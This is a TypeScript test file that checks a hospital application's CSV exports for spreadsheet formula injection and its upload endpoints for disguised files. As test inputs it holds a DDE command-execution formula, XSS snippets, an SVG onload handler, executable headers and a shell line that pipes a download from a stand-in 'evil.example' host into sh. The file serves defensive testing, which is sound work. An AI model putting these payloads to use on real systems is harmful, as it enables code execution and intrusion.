import { expect, test } from "bun:test";
import { parse } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import { operators } from "../../db/schema/control/operators.ts";
import { departments } from "../../db/schema/hospital/departments.ts";
import { documents } from "../../db/schema/hospital/files.ts";
import { importRunErrors, importRunFiles, importRuns } from "../../db/schema/hospital/import-runs.ts";
import { patients } from "../../db/schema/hospital/patients.ts";
import { users } from "../../db/schema/hospital/users.ts";
import { testApp } from "../support/app.ts";
import { badgeAt, operatorBadge } from "../support/badges.ts";
import { emailOf, ownerEmail } from "../support/cast.ts";
import { plant } from "./plant.ts";
import { addressOf, ask, headersOf, walkedRoutes } from "./routes.ts";

const app = await testApp();
const formulas = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1+1", '=HYPERLINK("http://x")'];

test("no file that is given out holds a cell that a spreadsheet would run", async () => {
  const hospital = await app.newHospital();
  const planted = await plant(app, hospital);
  const { ids } = planted;
  const admin = planted.people["admin"] ?? "";
  await hospital.system().write(async (tx) => {
    for (const [at, odd] of formulas.entries()) {
      const row = { mrn: `F-${at}`, sex: "female", bornOn: "1990-05-17" } as const;
      const told = { firstName: odd, lastName: odd, city: odd, notes: odd, phone: odd, nationalId: odd };
      await tx.insert(patients).values({ ...row, ...told, addressLine: odd, emergencyContactName: odd });
      await tx.insert(departments).values({ key: `odd-${at}`, name: odd });
    }
    await tx.update(users).set({ name: "=cmd|' /C calc'!A0" }).where(eq(users.id, admin));
    const runId = ids["imports"] ?? "";
    const [file] = await tx
      .insert(importRunFiles)
      .values({ runId, position: 0, name: "=1+1.json", sizeBytes: 1, status: "refused", sha256: "x" })
      .returning({ id: importRunFiles.id });
    for (const [position, odd] of formulas.entries())
      await tx.insert(importRunErrors).values({
        ...{ runId, fileId: file?.id ?? "", position, code: "odd", field: odd, message: odd },
        ...{ resourceType: "Patient", resourceId: odd },
      });
    await tx.update(importRuns).set({ status: "done" }).where(eq(importRuns.id, runId));
  });
  const [olga] = await app.services.connections.control.db
    .select({ id: operators.id })
    .from(operators)
    .where(eq(operators.email, ownerEmail));
  const badges = {
    hospital: await badgeAt(app, hospital, admin),
    owner: await operatorBadge(app, olga?.id ?? ""),
    apex: null,
  };
  const hosts = { hospital: hospital.host, owner: "owner.localhost", apex: "localhost" };
  const read: Record<string, number> = {};
  for (const route of await walkedRoutes(app)) {
    const badge = badges[route.portal];
    if (route.method !== "GET" || badge === null) continue;
    const { address } = addressOf(route, ids);
    const sent = { headers: headersOf(badge, route), whole: false, from: "203.0.113.63" };
    const answer = await ask(app, route, address, { ...sent, host: hosts[route.portal] });
    // An empty form to fill in holds our own words alone, a telephone number among them.
    if (!answer.headers.get("content-type")?.startsWith("text/csv") || /\/template/.test(route.path))
      continue;
    expect([route.name, answer.status]).toEqual([route.name, 200]);
    expect(answer.headers.get("content-disposition")).toStartWith("attachment;");
    const [, text = ""] = answer.text.split(`${[...answer.headers.values()].join("\n")}\n`);
    const cells = (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();
    expect(cells.filter((cell) => /^\s*[=+\-@|%\t\r]/.test(cell))).toEqual([]);
    read[route.name] = cells.filter((cell) => /^'\s*[=+\-@]/.test(cell)).length;
  }
  expect(Object.keys(read).length).toBeGreaterThan(4);
  const harmless = Object.entries(read).filter(([name]) =>
    /patients\/export|errors\.csv|tenant\/audit/.test(name),
  );
  expect(harmless.length).toBeGreaterThan(2);
  for (const [name, count] of harmless) expect([name, count > 0]).toEqual([name, true]);
});

const text = (words: string) => new TextEncoder().encode(words);
/** What is not what its name says, by its first bytes. */
const disguised: Readonly<Record<string, Uint8Array<ArrayBuffer>>> = {
  "a zip": new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00]),
  "a Windows program": new Uint8Array([
    0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xff, 0xff,
  ]),
  "a Linux program": new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]),
  "a PDF": text("%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n"),
  "a PNG": new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00]),
  "a page": text("<!doctype html><script>alert(1)</script>"),
  "a drawing with a script": text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  "a script": text("#!/bin/sh\ncurl http://evil.example | sh\n"),
  gzip: Bun.gzipSync("name,email,role\n"),
  "UTF-16": new Uint8Array([0xff, 0xfe, 0x6e, 0x00, 0x61, 0x00]),
  nothing: new Uint8Array(),
};

test("a file that is not what its name says is refused, at every place that takes one", async () => {
  const hospital = await app.newHospital();
  const admin = await hospital.as("admin");
  const { id } = (await (
    await admin.send("/api/v1/tenant/patients", {
      json: { firstName: "Sara", lastName: "Khan", sex: "female", bornOn: "1990-05-17" },
    })
  ).json()) as { id: string };
  // A document may be a PDF or a picture, whatever it is called.
  const papers = new Set(["a PDF", "a PNG"]);
  const paper = { field: "file", name: "scan.pdf", type: "application/pdf" } as const;
  const places = [
    { at: `/api/v1/tenant/patients/${id}/documents`, from: null, ...paper },
    { at: `/patients/${id}/documents`, from: `/patients/${id}/documents/new`, ...paper },
    { at: "/api/v1/tenant/users/imports", from: null, field: "file", name: "staff.csv", type: "text/csv" },
    { at: "/users/imports", from: "/users/imports", field: "file", name: "staff.csv", type: "text/csv" },
    {
      at: "/api/v1/tenant/imports",
      from: null,
      field: "files",
      name: "b.json",
      type: "application/fhir+json",
    },
    { at: "/imports", from: "/imports", field: "files", name: "b.json", type: "application/json" },
  ] as const;
  // A new place that takes files is to be tried here too.
  const taking = (await walkedRoutes(app))
    .filter(({ sample }) => sample === "a file")
    .map(({ path }) => path);
  expect(taking.sort()).toEqual([
    ...["/api/v1/tenant/imports", "/api/v1/tenant/patients/:id/documents", "/api/v1/tenant/users/imports"],
  ]);
  for (const [what, bytes] of Object.entries(disguised))
    for (const { at, from, field, name, type } of places) {
      if (name === paper.name && papers.has(what)) continue;
      const body = new FormData();
      body.set(field, new File([bytes], name, { type }));
      body.set("kind", "letter");
      if (from !== null)
        body.set("_csrf", /name="_csrf" value="([^"]+)"/.exec(await admin.page(from))?.[1] ?? "");
      const answer = await admin.send(at, { body });
      const told = await answer.text();
      // The page of an import of records shows what is wrong with a file before anything is taken.
      const isDraft = at === "/imports" && answer.status === 303;
      expect([what, at, isDraft || answer.status === 422 || answer.status === 415]).toEqual([what, at, true]);
      expect(told).not.toContain("<script>alert(1)");
      if (!isDraft) continue;
      const shown = await admin.page(answer.headers.get("location") ?? "/");
      expect(shown).not.toContain("<script>alert(1)");
    }
  const { db } = hospital.system();
  expect(await db.$count(patients)).toBe(1);
  expect(await db.$count(documents)).toBe(0);
  const staff = await db.select({ email: users.email }).from(users);
  expect(staff.map(({ email }) => email)).toContain(emailOf("admin", hospital.subdomain));
  expect(staff.length).toBe(6);
});
